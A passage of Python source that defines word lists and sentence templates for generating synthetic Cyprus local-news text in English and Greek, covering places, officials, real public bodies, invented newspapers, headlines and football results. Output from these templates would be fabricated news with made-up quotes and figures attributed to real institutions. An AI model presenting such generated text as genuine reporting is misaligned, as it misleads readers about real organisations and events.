    "Polis Chrysochous|Troodos|Platres|Kakopetria|Pedoulas|Strovolos|Lakatamia|Aglandjia|"
    "Engomi|Latsia|Germasogeia|Ypsonas|Kato Polemidia|Mesa Geitonia|Dali|Tseri|Athienou|"
    "Oroklini|Livadia|Aradippou|Dromolaxia|Kiti|Pervolia|Mazotos|Pissouri|Episkopi|"
    "Kolossi|Akrotiri|Peyia|Coral Bay|Kissonerga|Chlorakas|Emba|Geroskipou|Kouklia|Tala|"
    "Lefkara|Kalavasos|Zygi|Governor’s Beach|Amathus|Moni|Kalopanayiotis|Omodos|Deryneia|"
    "Sotira|Liopetri|Xylophagou|Avgorou|Akamas|Kato Pyrgos|Agros|Prodromos|Lythrodontas|"
    "Pyla|Xylotymbou|Ormideia|Kornos|Pera Chorio|Idalion|Pano Lefkara|Kyperounta|Evrychou|"
    "Astromeritis|Peristerona|Deftera|Anthoupolis|Makedonitissa|Tersefanou|Alethriko"
)
CY = {
    "place": CY_PLACES,
    "place_hall": words(
        "{place}|the municipal hall in {place}|the community council offices in {place}|"
        "a hotel in {place}|the cultural centre in {place}"
    ),
    "org": words(
        "the {place} municipality|the Water Development Department|"
        "the Electricity Authority of Cyprus|"
        "the deputy ministry of tourism|the House of Representatives|the Cyprus Ports Authority|"
        "Hermes Airports|the Cyprus Police|the fire service|the forestry department|"
        "the Cyprus Sports Organisation|the Central Bank|the Cyprus Chamber of Commerce|"
        "the Met Office|the game and fauna service|the land registry|"
        "the {district} district administration|"
        "the interior ministry|the agriculture ministry|the health insurance organisation|"
        "the {district} district self-government organisation|the Cyprus Hotel Association|"
        "the Cyprus Tourism Organisation|the transport ministry|the education ministry|"
        "the Cyprus Energy Regulatory Authority|the environment department|the civil defence|"
        "the union of municipalities|the Cyprus Consumers’ Association|the public works department"
    ),
    "district": words("Nicosia|Limassol|Larnaca|Paphos|Famagusta"),
    "person": words(
        "{first} {last}, the mayor of {place}|MP {first} {last}|{first} {last}|{first} {last}|"
        "{first} {last}, a spokesperson for {org}|police spokesperson {first} {last}|"
        "community leader {first} {last}|{first} {last}, who owns a {business} in {place}|"
        "deputy minister {first} {last}|{first} {last} of {org}|Dr {first} {last}"
    ),
    "first": words(
        "Andreas|Maria|Nicos|Eleni|Christos|Georgia|Costas|Anna|Michalis|Katerina|Panayiotis|"
        "Despina|Savvas|Stella|Marios|Androulla|Loizos|Christina|Stelios|Natasa|Yiannis|"
        "Sophia|Demetris|Evi|Kyriacos|Froso|Charalambos|Elena|Petros|Rena"
    ),
    "last": words(
        "Georgiou|Christodoulou|Papadopoulos|Ioannou|Constantinou|Nicolaou|Charalambous|"
        "Antoniou|Savva|Michaelides|Evangelou|Petrou|Loizou|Theodorou|Panayi|Hadjigeorgiou|"
        "Stylianou|Kyriacou|Demetriou|Panayiotou|Efthymiou|Christofi|Neophytou|Kleanthous|"
        "Sotiriou|Pavlou|Xenophontos|Hadjipetrou|Andreou|Zenonos"
    ),
    "business": words(
        "taverna|kiosk|beach bar|hotel|bakery|winery|car hire firm|dive centre|souvenir shop|"
        "halloumi dairy|coffee shop|estate agency|restaurant|fish tavern"
    ),
    "outlet_ref": words("the {outlet}|this newspaper|local media|{outlet} reporters"),
    "outlet": words(
        "Limassol Today|Paphos Post|Larnaca Herald|Famagusta Gazette|Nicosia Times|"
        "Troodos Courier|Island Chronicle"
    ),
    "thing": words(
        "desalination plant|Kouris dam|Limassol marina|coastal road|motorway upgrade|"
        "Paphos–Polis road|Larnaca port and marina project|casino resort|student housing block|"
        "title deeds backlog|bus network|wildfire plan|water cuts schedule|Blue Flag beach|"
        "hotel renovation scheme|seafront promenade|old town regeneration|tram proposal|"
        "sewage network|solar park|airport expansion|cruise terminal|municipal market|"
        "cycle path|football stadium|pedestrian zone|new general hospital|recycling centre|"
        "fish farm|wine route|nature trail|archaeological park|fire station|"
        "municipal reform|traffic light system|speed camera network|housing grant scheme"
    ),
    "thing_plural": words(
        "rents|property prices|tourist arrivals|water cuts|electricity bills|bus routes|"
        "title deeds|hotel bookings|school places|parking fines|hospital waiting lists|"
        "fuel prices|flight numbers|cruise calls|short-term lets|beach permits"
    ),
    "thing_plural_of": words(
        "student flats|affordable homes|parking spaces|solar panels|bus lanes|"
        "beach facilities|public toilets|classrooms|bike stations|charging points"
    ),
    "facility": words(
        "municipal market|cinema|hotel|library|open-air theatre|swimming pool|post office|"
        "bank branch|hospital wing|visitor centre|football ground|museum"
    ),
    "project": words(
        "marina|motorway upgrade|desalination unit|dam repair|seafront project|"
        "port redevelopment|old town regeneration|sewage scheme|road widening"
    ),
    "weather_sentence": words(
        "The Met Office issued a yellow warning for thunderstorms in the {mountains}, "
        "with up to {mm} mm of rain expected in an hour.|"
        "Temperatures inland are forecast to reach {hot} degrees, and the Met Office urged people "
        "to avoid the sun between 11am and 4pm.|"
        "Firefighters were still dealing with the blaze near {place} on {day}, helped by "
        "aircraft from the forestry department.|"
        "Dams are only {pct} per cent full, the Water Development Department said, "
        "compared with {pct} per cent at the same time last year.|"
        "Strong winds forced the closure of the Larnaca and Paphos marinas on {day}.|"
        "Dust from the Sahara pushed air pollution in {place} above safe levels on {day}."
    ),
    "sport_sentence": [lambda rng: cy_football_sentence(rng)],
    "mountains": words("mountains|Troodos area|Paphos district hills|Pitsilia region"),
    "day": words("Monday|Tuesday|Wednesday|Thursday|Friday|Saturday|Sunday"),
    "mm": lambda rng: str(rng.randint(20, 60)),
    "hot": lambda rng: str(rng.randint(38, 44)),
}
CY_TEAMS = words(
    "Apoel|Omonia|Anorthosis|AEL|Apollon|AEK Larnaca|Pafos FC|Aris Limassol|Ethnikos Achna|"
    "Nea Salamis|Karmiotissa|Enosis Paralimni|Omonia Aradippou|Doxa Katokopias|Olympiakos Nicosia"
)


def cy_football_sentence(rng):
    home, away = rng.sample(CY_TEAMS, 2)
    hg, ag = rng.randint(0, 4), rng.randint(0, 3)
    ground = rng.choice(
        ["GSP stadium", "Alphamega stadium", "AEK Arena", "Antonis Papadopoulos stadium"]
    )
    templates = [
        f"{home} beat {away} {max(hg, ag) + 1}-{min(hg, ag)} at the {ground} on Saturday.",
        f"{home} and {away} drew {hg}-{hg} in front of {rng.randint(3, 21)},000 fans "
        f"at the {ground}.",
        f"{away} coach {rng.choice(CY['first'])} {rng.choice(CY['last'])} said the {hg}-{ag} "
        f"result against {home} was “not good enough”.",
        f"Police arrested {rng.randint(2, 14)} people after crowd trouble at the {home} "
        f"versus {away} match.",
    ]
    return rng.choice(templates)


CY_HEADLINES = [
    "{place} council approves {amount} plan for {thing_plural_of}",
    "Water cuts extended in {place} as dams dry up",
    "Residents of {place} protest over {adj} {thing}",
    "Tourist arrivals up {pct}% in {place} this season",
    "Police arrest {small} after {incident} in {place}",
    "Wildfire near {place} brought under control",
    "{org_cap} announces {amount} for {thing_plural_of}",
    "New {thing} for {place} delayed again",
    "Rents in {place} up {pct}% in a year",
    "{team} beat {team} in derby",
    "Yellow weather warning for {district} district",
    "{place} {facility} to reopen after renovation",
    "Court jails {place} {court_person} for {crime}",
    "House committee to discuss {topic_short}",
    "‘{short_quote}’, say {place} {group}",
    "Flights to {place} boosted as {airline} adds routes",
    "{number} homes without power in {place} after storm",
    "{district} hoteliers report {pct}% drop in bookings",
    "{place} {thing} to go to tender",
    "Title deeds finally issued for {number} homes in {place}",
]
CY_HL = {
    "small": lambda rng: str(rng.randint(2, 9)),
    "incident": words(
        "drug raid|break-in|smuggling attempt|fight outside a nightclub|arson attack|"
        "ATM theft|illegal hunting|car chase"
    ),
    "team": CY_TEAMS,
    "court_person": words("man|woman|driver|businessman|tourist|landlord"),
    "crime": words(
        "drug possession|fraud|arson|smuggling|assault|dangerous driving|theft from tourists"
    ),
    "topic_short": words(
        "water shortages|student housing|title deeds|the Larnaca marina|public transport|"
        "rents|wildfire prevention|the new casino|hospital waits|municipal reform"
    ),
    "short_quote": words(
        "We have no water|Enough is enough|We were never told|This is good news|"
        "Tourism is our lifeline|The roads are a disgrace"
    ),
    "airline": words(
        "a budget airline|a German carrier|a Greek airline|a Gulf carrier|a Polish airline"
    ),
}

# --- Cyprus, in Greek. ----------------------------------------------------------------------
# Places as (nominative, genitive, "in/at" with the article).
EL_PLACES = [
    ("Λευκωσία", "της Λευκωσίας", "στη Λευκωσία"),
    ("Λεμεσός", "της Λεμεσού", "στη Λεμεσό"),
    ("Λάρνακα", "της Λάρνακας", "στη Λάρνακα"),
    ("Πάφος", "της Πάφου", "στην Πάφο"),
    ("Αμμόχωστος", "της Αμμοχώστου", "στην Αμμόχωστο"),
    ("Αγία Νάπα", "της Αγίας Νάπας", "στην Αγία Νάπα"),
    ("Παραλίμνι", "του Παραλιμνίου", "στο Παραλίμνι"),
    ("Πρωταράς", "του Πρωταρά", "στον Πρωταρά"),
    ("Πόλη Χρυσοχούς", "της Πόλης Χρυσοχούς", "στην Πόλη Χρυσοχούς"),
    ("Τρόοδος", "του Τροόδους", "στο Τρόοδος"),
    ("Πλάτρες", "των Πλατρών", "στις Πλάτρες"),
    ("Κακοπετριά", "της Κακοπετριάς", "στην Κακοπετριά"),
    ("Στρόβολος", "του Στροβόλου", "στον Στρόβολο"),
    ("Λακατάμια", "της Λακατάμιας", "στη Λακατάμια"),
    ("Αγλαντζιά", "της Αγλαντζιάς", "στην Αγλαντζιά"),
    ("Έγκωμη", "της Έγκωμης", "στην Έγκωμη"),
    ("Λατσιά", "των Λατσιών", "στα Λατσιά"),
    ("Γερμασόγεια", "της Γερμασόγειας", "στη Γερμασόγεια"),
    ("Ύψωνας", "του Ύψωνα", "στον Ύψωνα"),
    ("Δάλι", "του Δαλιού", "στο Δάλι"),
    ("Αθηένου", "της Αθηένου", "στην Αθηένου"),
    ("Ορόκλινη", "της Ορόκλινης", "στην Ορόκλινη"),
    ("Λιβάδια", "των Λιβαδιών", "στα Λιβάδια"),
    ("Αραδίππου", "της Αραδίππου", "στην Αραδίππου"),
    ("Κίτι", "του Κιτίου", "στο Κίτι"),
    ("Πισσούρι", "του Πισσουρίου", "στο Πισσούρι"),
    ("Επισκοπή", "της Επισκοπής", "στην Επισκοπή"),
    ("Πέγεια", "της Πέγειας", "στην Πέγεια"),
    ("Χλώρακα", "της Χλώρακας", "στη Χλώρακα"),
    ("Γεροσκήπου", "της Γεροσκήπου", "στη Γεροσκήπου"),
    ("Λεύκαρα", "των Λευκάρων", "στα Λεύκαρα"),
    ("Όμοδος", "του Ομόδους", "στο Όμοδος"),
    ("Δερύνεια", "της Δερύνειας", "στη Δερύνεια"),
    ("Λιοπέτρι", "του Λιοπετρίου", "στο Λιοπέτρι"),
    ("Ξυλοφάγου", "του Ξυλοφάγου", "στο Ξυλοφάγου"),
    ("Αυγόρου", "της Αυγόρου", "στην Αυγόρου"),
    ("Κολόσσι", "του Κολοσσίου", "στο Κολόσσι"),
    ("Ακάμας", "του Ακάμα", "στον Ακάμα"),
    ("Κούκλια", "των Κουκλιών", "στα Κούκλια"),
    ("Πέρα Χωριό", "του Πέρα Χωριού", "στο Πέρα Χωριό"),
    ("Αγρός", "του Αγρού", "στον Αγρό"),
    ("Ζύγι", "του Ζυγίου", "στο Ζύγι"),
    ("Κάτω Πύργος", "της Κάτω Πύργου", "στην Κάτω Πύργο"),
    ("Σωτήρα", "της Σωτήρας", "στη Σωτήρα"),
    ("Μαζωτός", "του Μαζωτού", "στον Μαζωτό"),
]
# Teams as (nominative, genitive, accusative).
EL_TEAMS = [
    ("ο ΑΠΟΕΛ", "του ΑΠΟΕΛ", "τον ΑΠΟΕΛ"),
    ("η Ομόνοια", "της Ομόνοιας", "την Ομόνοια"),
    ("η Ανόρθωση", "της Ανόρθωσης", "την Ανόρθωση"),
    ("η ΑΕΛ", "της ΑΕΛ", "την ΑΕΛ"),
    ("ο Απόλλωνας", "του Απόλλωνα", "τον Απόλλωνα"),
    ("η ΑΕΚ", "της ΑΕΚ", "την ΑΕΚ"),
    ("η Πάφος FC", "της Πάφου FC", "την Πάφο FC"),
    ("ο Άρης", "του Άρη", "τον Άρη"),
    ("ο Εθνικός Άχνας", "του Εθνικού Άχνας", "τον Εθνικό Άχνας"),
    ("η Νέα Σαλαμίνα", "της Νέας Σαλαμίνας", "τη Νέα Σαλαμίνα"),
    ("η Καρμιώτισσα", "της Καρμιώτισσας", "την Καρμιώτισσα"),
    ("η ΕΝΠ", "της ΕΝΠ", "την ΕΝΠ"),
    ("η Δόξα Κατωκοπιάς", "της Δόξας Κατωκοπιάς", "τη Δόξα Κατωκοπιάς"),
]
EL_FIRST_M = words(
    "Ανδρέας|Γιώργος|Νίκος|Χρίστος|Κώστας|Μιχάλης|Παναγιώτης|Σάββας|Στέλιος|Μάριος|Λοΐζος|"
    "Πανίκος|Δημήτρης|Γιαννάκης|Κυριάκος|Χαράλαμπος|Πέτρος|Σωτήρης|Θεόδωρος|Αντώνης"
)
EL_FIRST_F = words(
    "Μαρία|Ελένη|Άννα|Χριστίνα|Ανδρούλλα|Γεωργία|Κατερίνα|Δέσποινα|Ευτυχία|Στέλλα|Νατάσα|"
    "Σοφία|Φρόσω|Ρένα|Έλενα|Μαρίνα|Χρυστάλλα|Παναγιώτα"
)
EL_LAST = words(
    "Γεωργίου|Χριστοδούλου|Ιωάννου|Κωνσταντίνου|Νικολάου|Χαραλάμπους|Αντωνίου|Σάββα|"
    "Ευαγγέλου|Πέτρου|Λοΐζου|Θεοδώρου|Παναγή|Χατζηγεωργίου|Στυλιανού|Κυριάκου|Δημητρίου|"
    "Παναγιώτου|Ευθυμίου|Χριστοφή|Νεοφύτου|Κλεάνθους|Σωτηρίου|Παύλου|Ξενοφώντος|Ανδρέου|Ζήνωνος"
)


def el_person(rng):
    if rng.random() < 0.5:
        name = f"{rng.choice(EL_FIRST_M)} {rng.choice(EL_LAST)}"
        article, mayor, councillor, head = "ο", "ο δήμαρχος", "ο δημοτικός σύμβουλος", "ο πρόεδρος"
    else:
        name = f"{rng.choice(EL_FIRST_F)} {rng.choice(EL_LAST)}"
        article, mayor, councillor, head = "η", "η δήμαρχος", "η δημοτική σύμβουλος", "η πρόεδρος"
    place = rng.choice(EL_PLACES)[1]
    return rng.choice(
        [
            f"{mayor} {place}, {name}",
            f"{councillor} {name}",
            f"{article} {name}",
            f"{article} {name}",
            f"{head} του κοινοτικού συμβουλίου {place}, {name}",
            f"{article} βουλευτής {name}",
            f"{article} {name}, {rng.choice(['εκπρόσωπος', 'στέλεχος'])} "
            f"{rng.choice(EL['org_gen'])}",
            f"{head} του συνδέσμου επαγγελματιών {place}, {name}",
        ]
    )


def el_sport_sentence(rng):
    home, away = rng.sample(EL_TEAMS, 2)
    hg, ag = rng.randint(0, 4), rng.randint(0, 3)
    win, lose = max(hg, ag) + 1, min(hg, ag)
    stadium = rng.choice(
        ["στο ΓΣΠ", "στο «Αλφαμέγα Στάδιο»", "στην «AEK Arena»", "στο «Αντώνης Παπαδόπουλος»"]
    )
    templates = [
        f"{cap(home[0])} επικράτησε {away[1]} με {win}-{lose} {stadium} και πλησίασε την κορυφή.",
        f"Ισόπαλο {hg}-{hg} έληξε {stadium} το παιχνίδι {home[1]} με {away[2]}.",
        f"{cap(away[0])} ηττήθηκε με {win}-{lose} από {home[2]} και παραμένει στη δεύτερη θέση.",
        f"Ο προπονητής {away[1]} δήλωσε μετά τον αγώνα ότι «το αποτέλεσμα δεν μας ικανοποιεί».",
        f"Με γκολ στις καθυστερήσεις {home[0]} νίκησε {away[2]} με {win}-{lose}.",
        f"Επεισόδια σημειώθηκαν μετά τη λήξη του αγώνα {home[1]} με {away[2]}, με "
        f"{rng.randint(2, 12)} συλλήψεις.",
    ]
    return rng.choice(templates)


EL = {
    "sentence": [
        "{time_cap} {subj} {verb} {obj}, {reason}.",
        "{subj_cap} {verb} {obj} {loc}.",
        "Σύμφωνα με {source_doc}, {clause}.",
        "«{quote}», δήλωσε {person}.",
        "«{quote}. {quote_cap}», ανέφερε {person} μιλώντας {to_whom}.",
        "{person_cap} υπογράμμισε ότι {clause}, προσθέτοντας ότι {clause}.",
        "{group_cap} {loc} {react}, υποστηρίζοντας ότι {clause}.",
        "Περίπου {number} {group_bare} συμμετείχαν {time} σε {meeting} {loc} για {topic_acc}.",
        "Το έργο, που {project_detail}, {project_status}.",
        "{subj_cap} διέθεσε {amount} για {topic_acc} {loc}.",
        "{time_cap}, {clause}.",
        "Όπως έγινε γνωστό, {clause}.",
        "{subj_cap} ανακοίνωσε ότι {clause}.",
        "Το δημοτικό συμβούλιο {council_action} κατά τη συνεδρία της {weekday_gen}.",
        "Σημειώθηκαν {number} {incident_pl} {loc} {period}, {compare}.",
        "Απόφαση για {topic_acc} αναμένεται {future_time}.",
        "{weather_sentence}",
        "{sport_sentence}",
        "{clause_cap}, ενώ {clause}.",
        "Τα στοιχεία {org_gen} δείχνουν ότι {stat_clause}.",
        "{clause_cap}, παρά {obstacle}.",
        "Όποιος έχει πληροφορίες καλείται να επικοινωνήσει με τον πλησιέστερο αστυνομικό σταθμό.",
        "{clause_cap}, σημείωσε {person}.",
        "Σε ανακοίνωσή της, η εταιρεία ανέφερε ότι {clause} και ζήτησε την κατανόηση του κοινού.",
        "Οι ενδιαφερόμενοι μπορούν να υποβάλουν απόψεις μέχρι {deadline}.",
    ],
    "clause": [
        "{subj} {verb} {obj}",
        "{neut} {passive} {reason}",
        "{group} {intrans}",
        "το κόστος {project_gen} αυξήθηκε στα {amount}",
        "οι εργασίες {project_gen} {work_status}",
        "{number} {group_bare} {group_event}",
        "{neut} {will_phrase}",
        "{group} {loc} {intrans}",
        "{stat_clause}",
        "{subj} {verb} {obj} {loc}",
    ],
    "subj": words(
        "ο Δήμος {place_gen}|η Αρχή Ηλεκτρισμού|το Τμήμα Αναπτύξεως Υδάτων|το Υπουργικό Συμβούλιο|"
        "η Επαρχιακή Διοίκηση {place_gen}|το Υφυπουργείο Τουρισμού|η Αστυνομία|"
        "η Πυροσβεστική Υπηρεσία|το δημοτικό συμβούλιο {place_gen}|ο Σύνδεσμος Ξενοδόχων|"
        "η Αρχή Λιμένων Κύπρου|η Βουλή|η Επιτροπή Οικονομικών της Βουλής|το Υπουργείο Εσωτερικών|"
        "το Υπουργείο Μεταφορών|το Τμήμα Δημοσίων Έργων|το Τμήμα Δασών|"
        "ο Οργανισμός Ασφάλισης Υγείας|"
        "η Κεντρική Τράπεζα|το Εμπορικό και Βιομηχανικό Επιμελητήριο|η κοινότητα {place_gen}|"
        "ο Επαρχιακός Οργανισμός Αυτοδιοίκησης|το Τμήμα Περιβάλλοντος|η Πολιτική Άμυνα|"
        "το Υπουργείο Γεωργίας|ο Κυπριακός Οργανισμός Αθλητισμού|η Ένωση Δήμων|το Κτηματολόγιο"
    ),
    "org_gen": words(
        "του Δήμου {place_gen}|της Αρχής Ηλεκτρισμού|του Τμήματος Αναπτύξεως Υδάτων|"
        "του Υφυπουργείου Τουρισμού|της Αστυνομίας|της Στατιστικής Υπηρεσίας|"
        "της Κεντρικής Τράπεζας|του Κτηματολογίου|του Συνδέσμου Ξενοδόχων|"
        "του Υπουργείου Εσωτερικών|του Επιμελητηρίου {place_gen}|της Πυροσβεστικής Υπηρεσίας"
    ),
    "verb": words(
        "ενέκρινε|ανακοίνωσε|παρουσίασε|απέρριψε|ανέβαλε|υπέγραψε|χρηματοδότησε|ολοκλήρωσε|"
        "επέκτεινε|ανέστειλε|προώθησε|εξέτασε|επανεξετάζει|προκήρυξε|δρομολογεί|"
        "ζήτησε διευκρινίσεις για|έθεσε σε δημόσια διαβούλευση|επέκρινε|στήριξε|"
        "ανακοίνωσε καθυστέρηση για|πάγωσε|ενέταξε στον προϋπολογισμό"
    ),
    "obj": words(
        "το σχέδιο ανάπλασης του παραλιακού μετώπου|τον προϋπολογισμό του 2027|"
        "την επέκταση του ποδηλατόδρομου|τη νέα μονάδα αφαλάτωσης|το νέο δημοτικό πάρκο|"
        "την αναβάθμιση του οδικού δικτύου|τα έργα αποχέτευσης|τις προσφορές για τη μαρίνα|"
        "το πρόγραμμα στεγαστικής στήριξης|την ανακαίνιση του δημοτικού θεάτρου|"
        "τα μέτρα για τη λειψυδρία|το νέο σχέδιο για τις δημόσιες συγκοινωνίες|"
        "την ανέγερση φοιτητικών εστιών|τον νέο κυκλικό κόμβο|τη διαπλάτυνση του δρόμου|"
        "το σχέδιο πυροπροστασίας|τις άδειες για βραχυχρόνιες μισθώσεις|"
        "την ανάπλαση της παλιάς πόλης|"
        "το φωτοβολταϊκό πάρκο|την κατασκευή του νέου φράγματος|τις επιδιορθώσεις στο λιμάνι|"
        "το κυκλοφοριακό σχέδιο|την επέκταση του αεροδρομίου|το έργο της δημοτικής αγοράς|"
        "τους τίτλους ιδιοκτησίας|το πρόγραμμα ανακύκλωσης|τις νέες θέσεις στάθμευσης|"
        "το σχέδιο για την ύδρευση της κοινότητας|την αναβάθμιση του αθλητικού κέντρου"
    ),
    "neut": words(
        "το σχέδιο ανάπλασης|το έργο της μαρίνας|το πρόγραμμα στεγαστικής στήριξης|"
        "το νέο δημοτικό πάρκο|το φωτοβολταϊκό πάρκο|το κυκλοφοριακό σχέδιο|"
        "το έργο αποχέτευσης|το σχέδιο πυροπροστασίας|το νέο γήπεδο|το δημοτικό θέατρο|"
        "το έργο της αφαλάτωσης|το πρόγραμμα ανακύκλωσης|το νέο νοσοκομείο|το λιμάνι της Λάρνακας"
    ),
    "project_gen": words(
        "του έργου|του νέου φράγματος|της μονάδας αφαλάτωσης|της ανάπλασης του κέντρου|"
        "του αυτοκινητόδρομου|της μαρίνας|του νέου σχολείου|της παραλιακής λεωφόρου|"
        "του δικτύου αποχέτευσης|της δημοτικής αγοράς|του ποδηλατόδρομου"
    ),
    "passive": words(
        "εγκρίθηκε|αναβλήθηκε ξανά|ολοκληρώθηκε|πάγωσε|επεκτάθηκε|τέθηκε σε δημόσια διαβούλευση|"
        "καθυστερεί|προχωρά κανονικά|απορρίφθηκε|επανεξετάζεται|περικόπηκε"
    ),
    "reason": words(
        "λόγω του αυξημένου κόστους|μετά από δημόσια διαβούλευση|ύστερα από παράπονα των κατοίκων|"
        "εξαιτίας της λειψυδρίας|λόγω των ισχυρών ανέμων|λόγω έλλειψης προσωπικού|"
        "μετά από ένσταση των περιοίκων|για λόγους ασφαλείας|μετά από αυτοψία μηχανικών|"
        "λόγω γραφειοκρατικών εμποδίων|με στόχο την εξοικονόμηση πόρων|"
        "ύστερα από έντονες αντιδράσεις|σε συνεννόηση με την κυβέρνηση|"
        "λόγω της αύξησης των τιμών των υλικών"
    ),
    "time": words(
        "τη Δευτέρα|την Τρίτη|την Τετάρτη|την Πέμπτη|την Παρασκευή|το Σάββατο|την Κυριακή|"
        "χθες|σήμερα το πρωί|την περασμένη εβδομάδα|νωρίτερα αυτόν τον μήνα|το Σαββατοκύριακο|"
        "χθες το απόγευμα|την Πέμπτη το βράδυ|τις τελευταίες ημέρες|τον περασμένο μήνα"
    ),
    "weekday_gen": words("Δευτέρας|Τρίτης|Τετάρτης|Πέμπτης|Παρασκευής"),
    "future_time": words(
        "την επόμενη εβδομάδα|τον επόμενο μήνα|μέσα στο νέο έτος|πριν από τα Χριστούγεννα|"
        "μέχρι το τέλος του χρόνου|την άνοιξη|τις επόμενες ημέρες|μέχρι τον Μάρτιο|"
        "πριν από την τουριστική περίοδο|εντός εξαμήνου"
    ),
    "period": words(
        "από την αρχή του χρόνου|πέρσι|τους τελευταίους δώδεκα μήνες|το καλοκαίρι|"
        "τον Οκτώβριο|τον περασμένο μήνα|το πρώτο εξάμηνο"
    ),
    "compare": words(
        "έναντι {number} την αντίστοιχη περσινή περίοδο|αύξηση {pct}% σε σύγκριση με πέρσι|"
        "μείωση {pct}% σε σχέση με το 2025|ο υψηλότερος αριθμός των τελευταίων ετών|"
        "σχεδόν διπλάσιος αριθμός από πέρσι"
    ),
    "source_doc": words(
        "στοιχεία της Στατιστικής Υπηρεσίας|την ετήσια έκθεση του Γενικού Ελεγκτή|"
        "πληροφορίες που δημοσιεύει η εφημερίδα «{outlet}»|"
        "έγγραφο που έχει στη διάθεσή της η εφημερίδα «{outlet}»|"
        "έρευνα σε {number} νοικοκυριά|τα πρακτικά της συνεδρίας|το νέο τοπικό σχέδιο"
    ),
    "outlet": words(
        "Λεμεσιανή Ενημέρωση|Ηχώ της Πάφου|Λαρνακαϊκά Νέα|Φωνή της Αμμοχώστου|Νέα της Λευκωσίας"
    ),
    "to_whom": words(
        "στο ραδιόφωνο|σε δημοσιογράφους|στη Βουλή|σε δημόσια εκδήλωση|σε τηλεοπτική εκπομπή|"
        "στην εφημερίδα μας|σε συνέντευξη Τύπου"
    ),
    "quote": words(
        "Δεν μπορούμε να περιμένουμε άλλο|Είναι μια καλή μέρα για τον τόπο μας|"
        "Οι κάτοικοι αξίζουν καλύτερα|Το ζήτημα είναι σοβαρό και απαιτεί λύσεις|"
        "Θα συνεχίσουμε να πιέζουμε μέχρι να δοθεί λύση|Κανείς δεν μας ενημέρωσε|"
        "Το έργο θα αλλάξει την εικόνα της περιοχής|"
        "Πρόκειται για ένα βήμα προς τη σωστή κατεύθυνση|"
        "Η κατάσταση δεν είναι πλέον ανεκτή|Περιμένουμε χρόνια αυτή την απόφαση|"
        "Χαιρετίζουμε την απόφαση, αλλά χρειάζονται περισσότερα|"
        "Η λειψυδρία είναι η μεγαλύτερη πρόκληση|"
        "Οι επαγγελματίες της περιοχής υποφέρουν|Τα χρήματα υπάρχουν, λείπει η βούληση"
    ),
    "group": words(
        "οι κάτοικοι|οι επαγγελματίες|οι γονείς|οι αγρότες|οι ψαράδες|οι ξενοδόχοι|οι οδηγοί|"
        "οι ενοικιαστές|οι φοιτητές|οι ιδιοκτήτες ακινήτων|οι συνταξιούχοι|οι καταστηματάρχες|"
        "οι κτηνοτρόφοι|οι εκπαιδευτικοί|οι νοσηλευτές|οι εθελοντές|οι δημότες"
    ),
    "group_bare": words(
        "κάτοικοι|επαγγελματίες|γονείς|αγρότες|ψαράδες|ξενοδόχοι|φοιτητές|συνταξιούχοι|"
        "καταστηματάρχες|εθελοντές|δημότες|εργαζόμενοι"
    ),
    "react": words(
        "χαιρέτισαν την απόφαση|επέκριναν την απόφαση|αντέδρασαν έντονα στην απόφαση|"
        "αμφισβητούν την απόφαση|υποδέχθηκαν με επιφύλαξη την απόφαση|"
        "ζητούν να αναθεωρηθεί η απόφαση"
    ),
    "intrans": words(
        "διαμαρτύρονται για τις διακοπές νερού|ζητούν άμεσα μέτρα|περιμένουν απαντήσεις|"
        "ανησυχούν για την αύξηση των ενοικίων|δηλώνουν ότι δεν ενημερώθηκαν|"
        "έμειναν χωρίς ρεύμα για ώρες|συγκεντρώθηκαν έξω από το δημαρχείο|"
        "υπέγραψαν ψήφισμα διαμαρτυρίας|καλούνται να περιορίσουν την κατανάλωση νερού|"
        "απομακρύνθηκαν προληπτικά από τα σπίτια τους|χαιρετίζουν την απόφαση|"
        "προσέφυγαν στη δικαιοσύνη"
    ),
    "group_event": words(
        "υπέγραψαν την επιστολή διαμαρτυρίας|επηρεάστηκαν από τη διακοπή ρεύματος|"
        "υπέβαλαν αιτήσεις για το σχέδιο|εγκλωβίστηκαν για ώρες στο αεροδρόμιο|"
        "βρίσκονται σε λίστα αναμονής|παρευρέθηκαν στα εγκαίνια"
    ),
    "meeting": words(
        "ανοικτή σύσκεψη|δημόσια συνάντηση|σύσκεψη των κοινοτικών αρχών|ενημερωτική εκδήλωση|"
        "έκτακτη συνεδρία"
    ),
    "topic_acc": words(
        "τη λειψυδρία|το στεγαστικό|τις δημόσιες συγκοινωνίες|την κυκλοφοριακή συμφόρηση|"
        "τα έργα στο κέντρο|τους τίτλους ιδιοκτησίας|την πυροπροστασία|τον τουρισμό|"
        "την ανάπλαση της παραλίας|τις τιμές του ρεύματος|τη νέα μαρίνα|την ανακύκλωση|"
        "τις βραχυχρόνιες μισθώσεις|το νέο φράγμα|την αφαλάτωση"
    ),
    "project_detail": words(
        "ανακοινώθηκε για πρώτη φορά το {year}|χρηματοδοτείται από την ΕΕ|"
        "έχει κοστίσει μέχρι σήμερα {amount}|έπρεπε να είχε ολοκληρωθεί πέρσι|"
        "προκάλεσε αντιδράσεις στην περιοχή|θα δημιουργήσει {number} θέσεις εργασίας"
    ),
    "project_status": words(
        "αναμένεται πλέον να ολοκληρωθεί {future_time}|καθυστερεί κατά {months} μήνες|"
        "ξεπέρασε τον προϋπολογισμό κατά {amount}|βρίσκεται στο τελικό στάδιο|"
        "αντιμετωπίζει νέα νομική πρόκληση|θα προκηρυχθεί εκ νέου|έχει παγώσει ξανά"
    ),
    "council_action": words(
        "ενέκρινε ομόφωνα {obj}|απέρριψε με ψήφους {vote} {obj}|"
        "ανέβαλε τη λήψη απόφασης για {topic_acc}|"
        "ζήτησε έκθεση για {topic_acc}|συζήτησε εκτενώς {obj}"
    ),
    "vote": words("9 έναντι 4|12 έναντι 7|8 έναντι 6|14 έναντι 3|10 έναντι 9"),
    "incident_pl": words(
        "διαρρήξεις|τροχαίες συγκρούσεις|πυρκαγιές|διακοπές ρεύματος|διακοπές νερού|"
        "κλήσεις για βοήθεια|καταγγελίες|επιχειρήσεις διάσωσης"
    ),
    "stat_clause": words(
        "τα ενοίκια αυξήθηκαν κατά {pct}% {period}|"
        "{number} οικογένειες περιμένουν στέγαση|"
        "το μέσο ενοίκιο {loc} ανέρχεται πλέον στα {rent} ευρώ|"
        "οι αφίξεις τουριστών αυξήθηκαν κατά {pct}% {period}|"
        "τα φράγματα είναι γεμάτα μόλις κατά {pct}%|"
        "η κατανάλωση νερού μειώθηκε κατά {pct}% μετά την έκκληση|"
        "{number} κατοικίες ολοκληρώθηκαν {loc} {period}"
    ),
    "obstacle": words(
